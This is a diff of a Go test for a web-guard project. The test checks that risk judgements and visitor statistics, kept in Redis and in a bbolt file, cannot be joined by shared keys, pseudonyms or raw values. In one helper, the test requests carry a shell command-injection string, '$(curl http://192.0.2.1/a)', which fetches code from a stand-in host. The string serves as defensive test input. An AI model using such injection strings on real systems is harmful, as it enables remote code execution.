@@ -6,7 +6,9 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
+	"path/filepath"
 	"reflect"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -14,100 +16,58 @@ import (
 
 	"github.com/labstack/echo/v4"
 	"github.com/redis/go-redis/v9"
+	"go.etcd.io/bbolt"
 
-	"github.com/kelisim/kelisim/internal/gate/gatetest"
 	"github.com/kelisim/kelisim/middleware"
 	"github.com/kelisim/kelisim/risk"
 	"github.com/kelisim/kelisim/stats"
+	"github.com/kelisim/kelisim/store/boltstore"
 	"github.com/kelisim/kelisim/store/redisstore"
 	"github.com/kelisim/kelisim/store/storetest/redistest"
 	"github.com/kelisim/kelisim/visit"
 )
 
-// TestRiskAndStatisticsCannotBeJoined lists every key and field that a guarded site keeps of statistics and of the judgement of requests,
-// and finds nothing by which a row of the one could be laid beside a row of the other.
+// TestRiskAndStatisticsCannotBeJoined lists every key and field that a guarded site keeps of statistics and of the judgement of requests, in
+// Redis and in a file, and finds nothing by which a row of the one could be laid beside a row of the other. In Redis the user of each
+// can read nothing of the other.
 func TestRiskAndStatisticsCannotBeJoined(t *testing.T) {
 	t.Parallel()
 	server := redistest.Start(t)
-	store, err := redisstore.Open(t.Context(), redisstore.Options{Site: "test", URL: server.URL()})
-	if err != nil {
-		t.Fatal(err)
-	}
-	counters, err := redisstore.OpenCounters(t.Context(), redisstore.CountersOptions{Site: "test", URL: server.URL()})
-	if err != nil {
-		t.Fatal(err)
-	}
-	guard := mount(t, func(c *middleware.Config) {
-		c.Store, c.Floors = store, stats.Floors{Person: 1}
-		c.Risk = middleware.Risk{
-			Use: middleware.RiskShadow, Capacity: 512, Shared: counters, Nodes: 1,
-			Rules: risk.Rules{Limits: []risk.Limit{{Name: "all", Limit: 2, Window: time.Hour, Then: risk.ActionThrottle, Away: risk.AwayOpen}}},
+	for _, acl := range [][]string{
+		{"ACL", "SETUSER", "risk", "on", ">pw", "resetkeys", "~r:{test}:*", "resetchannels", "&r:{test}:*", "+@all"},
+		{"ACL", "SETUSER", "stats", "on", ">pw", "resetkeys", "~k:{test}:*", "~c:{test}:*", "~a:{test}:*", "resetchannels", "&k:{test}:*", "+@all"},
+	} {
+		if reply, err := server.Command(t.Context(), acl...); err != nil || !strings.HasPrefix(string(reply), "+OK") {
+			t.Fatalf("%q, %v", reply, err)
 		}
-	})
-	e := echo.New()
-	e.Use(guard.Process)
-	e.GET("/*", func(c echo.Context) error { return c.HTML(http.StatusOK, "<p>page</p>") })
-	addr := netip.MustParseAddr("92.46.1.7")
-	for i := range 12 {
-		r := httptest.NewRequest(http.MethodGet, "/articles/"+strconv.Itoa(i), nil)
-		r.RemoteAddr = netip.AddrPortFrom(addr, 4000).String()
-		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0")
-		e.ServeHTTP(httptest.NewRecorder(), r)
 	}
-	who, network := guard.RiskEngine().Who(addr, gatetest.Now)
-	if err := guard.Shutdown(t.Context()); err != nil {
+	store, err := redisstore.Open(t.Context(), redisstore.Options{Site: "test", URL: "redis://stats:pw@" + server.Addr()})
+	if err != nil {
 		t.Fatal(err)
 	}
+	counters, err := redisstore.OpenCounters(t.Context(), redisstore.CountersOptions{Site: "test", URL: "redis://risk:pw@" + server.Addr()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = counters.Close() })
+	shelf, err := counters.Shelf(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	secrets := leaveTraces(t, func(c *middleware.Config) { c.Store, c.Risk.Shelf, c.Risk.Shared = store, shelf, counters })
+	wantApart(t, "redis", everything(t, server), secrets)
 
-	kept := everything(t, server)
-	names := map[string]bool{} // of the judgement
-	var statistics []string    // every key, field and value of everything else
-	for key, texts := range kept {
-		name, ours := strings.CutPrefix(key, "r:{test}:")
-		if !ours {
-			if !strings.HasPrefix(key, "k:{test}:") && !strings.HasPrefix(key, "c:{test}:") && !strings.HasPrefix(key, "a:{test}:") {
-				t.Errorf("key %q is in no area", key)
-			}
-			statistics = append(append(statistics, key), texts...)
-			continue
-		}
-		if len(texts) != 1 || len(name) != 26 && name != "open" {
-			t.Errorf("key %q holds %q, want a number", key, texts)
-		}
-		if _, err := strconv.Atoi(texts[0]); err != nil {
-			t.Errorf("key %q holds %q, want a number", key, texts[0])
-		}
-		names[name] = true
-	}
-	if len(names) < 1 || len(statistics) < 10 || !strings.Contains(strings.Join(statistics, "\n"), "k:{test}:t:") {
-		t.Fatalf("%d counters and %d keys, fields and values of statistics: the test sees nothing", len(names), len(statistics))
-	}
-	for _, p := range []risk.Pseudonym{who, network} {
-		var b [16]byte
-		binary.BigEndian.PutUint64(b[:8], p[0])
-		binary.BigEndian.PutUint64(b[8:], p[1])
-		names[p.String()], names[string(b[:])], names[fmt.Sprintf("%x", b)] = true, true, true
-		if names := kept["r:{test}:"+p.String()]; names != nil {
-			t.Error("a counter stands under the pseudonym that verdicts show")
-		}
-	}
-	delete(names, "open")
-	for _, text := range statistics {
-		for name := range names {
-			if strings.Contains(text, name) {
-				t.Errorf("%q of the judgement is in %q of the statistics", name, text)
-			}
-		}
-	}
-
-	// The one thing that both make of an address is made under keys that have nothing in common.
-	keys, err := visit.NewKeys(secret, nil, 2)
+	path := filepath.Join(t.TempDir(), "k.db")
+	file, err := boltstore.Open(path, boltstore.Options{Site: "test"})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if key, err := keys.Key(1, addr, ""); err != nil || key == visit.Key(who) || key == visit.Key(network) {
-		t.Errorf("a visitor's key is a pseudonym: %v, %v", key, err)
+	secrets = leaveTraces(t, func(c *middleware.Config) { c.Store, c.Risk.Shelf = file, file.Shelf(nil) })
+	if err := file.Shutdown(); err != nil {
+		t.Fatal(err)
 	}
+	wantApart(t, "bolt", everythingIn(t, path), secrets)
+
 	// And no field of an event could hold what statistics are grouped by more finely than both may show: the path is scrubbed, the time a minute.
 	want := "Time Who Network Country Net Path Action Mode Rule Reasons Expires"
 	var fields []string
@@ -117,6 +77,153 @@ func TestRiskAndStatisticsCannotBeJoined(t *testing.T) {
 	if got := strings.Join(fields, " "); got != want {
 		t.Errorf("an event holds %s, want %s: say in docs/risk.md why, and that no statistics have it", got, want)
 	}
+}
+
+// leaveTraces has a guarded site count, judge, keep an incident, a block and accounts, and returns every name that judging has for its visitor.
+func leaveTraces(t *testing.T, change func(*middleware.Config)) (names []string) {
+	t.Helper()
+	guard := mount(t, func(c *middleware.Config) {
+		c.Floors, c.Now = stats.Floors{Person: 1}, time.Now
+		c.Risk = middleware.Risk{
+			Use: middleware.RiskShadow, Capacity: 512, Nodes: 1,
+			Rules: risk.Rules{Limits: []risk.Limit{{Name: "all", Limit: 2, Window: time.Hour, Then: risk.ActionThrottle, Away: risk.AwayOpen}}},
+		}
+		change(c)
+	})
+	e := echo.New()
+	e.Use(guard.Process)
+	e.GET("/*", func(c echo.Context) error { return c.HTML(http.StatusOK, "<p>page</p>") })
+	addr := netip.MustParseAddr("92.46.1.7")
+	for i := range 12 {
+		r := httptest.NewRequest(http.MethodGet, "/articles/"+strconv.Itoa(i)+"?q=$(curl%20http://192.0.2.1/a)", nil)
+		r.RemoteAddr = netip.AddrPortFrom(addr, 4000).String()
+		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0")
+		e.ServeHTTP(httptest.NewRecorder(), r)
+	}
+	now := time.Now()
+	who, network := guard.RiskEngine().Who(addr, now)
+	for _, kind := range []risk.EventKind{risk.LoginFailed, risk.LoginOK} {
+		j, err := guard.Report(t.Context(), risk.Event{Kind: kind, Account: "aigerim", Addr: addr, Agent: "Firefox", Consent: true, Device: "a device cookie"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		names = append(names, inEveryForm(j.Account)...)
+	}
+	if err := guard.RiskDesk().Block(t.Context(), network, now, time.Hour, "dana"); err != nil {
+		t.Fatal(err)
+	}
+	keys, err := visit.NewKeys(secret, nil, 2) // the one thing that both make of an address is made under keys that have nothing in common
+	if err != nil {
+		t.Fatal(err)
+	}
+	if key, err := keys.Key(1, addr, ""); err != nil || key == visit.Key(who) || key == visit.Key(network) {
+		t.Errorf("a visitor's key is a pseudonym: %v, %v", key, err)
+	}
+	if err := guard.Shutdown(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	return append(append(names, inEveryForm(who)...), inEveryForm(network)...)
+}
+
+func inEveryForm(p risk.Pseudonym) []string {
+	b := binary.BigEndian.AppendUint64(binary.BigEndian.AppendUint64(nil, p[0]), p[1])
+	return []string{p.String(), string(b), fmt.Sprintf("%x", b)}
+}
+
+// areasOfRisk are what judging keeps, by the beginning of the key; anything else is to be thought about first.
+var areasOfRisk = []string{"s:seed/", "s:hour/", "s:block/", "s:deed/", "s:account/", "x"}
+
+// wantApart looks through all that is kept, by key: names that judging has are in its own area alone, and no secret of either is in the other's.
+func wantApart(t *testing.T, where string, kept map[string][]string, names []string) {
+	t.Helper()
+	var judging, statistics []string // every key, field and value
+	areas := map[string]int{}
+	for key, texts := range kept {
+		name, ours := strings.CutPrefix(key, "r:{test}:")
+		if !ours {
+			if !strings.HasPrefix(key, "k:{test}:") && !strings.HasPrefix(key, "c:{test}:") && !strings.HasPrefix(key, "a:{test}:") {
+				t.Errorf("%s: key %q is in no area", where, key)
+			}
+			statistics = append(append(statistics, key), texts...)
+			continue
+		}
+		judging = append(append(judging, name), texts...)
+		area := slices.IndexFunc(areasOfRisk, func(a string) bool { return strings.HasPrefix(name, a) })
+		switch {
+		case area >= 0:
+			areas[areasOfRisk[area]]++
+		case len(name) == 26 || name == "open":
+			areas["counter"]++
+			if _, err := strconv.Atoi(texts[0]); len(texts) != 1 || err != nil {
+				t.Errorf("%s: counter %q holds %q, want a number", where, key, texts)
+			}
+			names = append(names, name)
+		default:
+			t.Errorf("%s: key %q is in no area of judging", where, key)
+		}
+		if strings.HasPrefix(name, "s:seed/") {
+			names = append(names, texts[0], fmt.Sprintf("%x", texts[0]))
+		}
+	}
+	for _, area := range []string{"s:seed/", "s:hour/", "s:block/", "s:deed/", "s:account/"} {
+		if areas[area] == 0 {
+			t.Errorf("%s: nothing is in %s: the test sees nothing", where, area)
+		}
+	}
+	all := strings.Join(statistics, "\n")
+	if len(statistics) < 10 {
+		t.Fatalf("%s: %d keys, fields and values of statistics: the test sees nothing", where, len(statistics))
+	}
+	for _, name := range names {
+		if name != "open" && strings.Contains(all, name) {
+			t.Errorf("%s: %q of the judgement is among the statistics", where, name)
+		}
+	}
+	own := strings.Join(judging, "\n")
+	for _, text := range statistics { // nothing random of theirs, such as the name of a process or of a record, is with ours
+		if len(text) >= 16 && !strings.HasPrefix(text, "/") && strings.Contains(own, text) {
+			t.Errorf("%s: %q of the statistics is among the judgement", where, text)
+		}
+	}
+	for _, raw := range []string{"aigerim", "92.46.1.7", "a device cookie", "Firefox/147"} {
+		if strings.Contains(own, raw) {
+			t.Errorf("%s: %q rests", where, raw)
+		}
+	}
+}
+
+// everythingIn is all that a file holds, by keys as in Redis: what is below the bucket of judging is its own.
+func everythingIn(t *testing.T, path string) map[string][]string {
+	t.Helper()
+	db, err := bbolt.Open(path, 0o600, &bbolt.Options{ReadOnly: true, Timeout: time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = db.Close() }()
+	kept := map[string][]string{}
+	var walk func(prefix string, b *bbolt.Bucket) error
+	walk = func(prefix string, b *bbolt.Bucket) error {
+		return b.ForEach(func(k, v []byte) error {
+			if v != nil {
+				if strings.HasPrefix(prefix, "r:") {
+					kept["r:{test}:s:"+string(k)] = []string{string(v[8:])}
+				} else {
+					kept["k:{test}:"+prefix+string(k)] = []string{string(v)}
+				}
+				return nil
+			}
+			if string(k) == "r" {
+				return walk("r:", b.Bucket(k))
+			}
+			return walk(prefix+string(k)+"/", b.Bucket(k))
+		})
+	}
+	if err := db.View(func(tx *bbolt.Tx) error {
+		return tx.ForEach(func(name []byte, b *bbolt.Bucket) error { return walk(string(name)+"/", b) })
+	}); err != nil {
+		t.Fatal(err)
+	}
+	return kept
 }
 
 // everything is all that a server holds: by key, the fields and values.
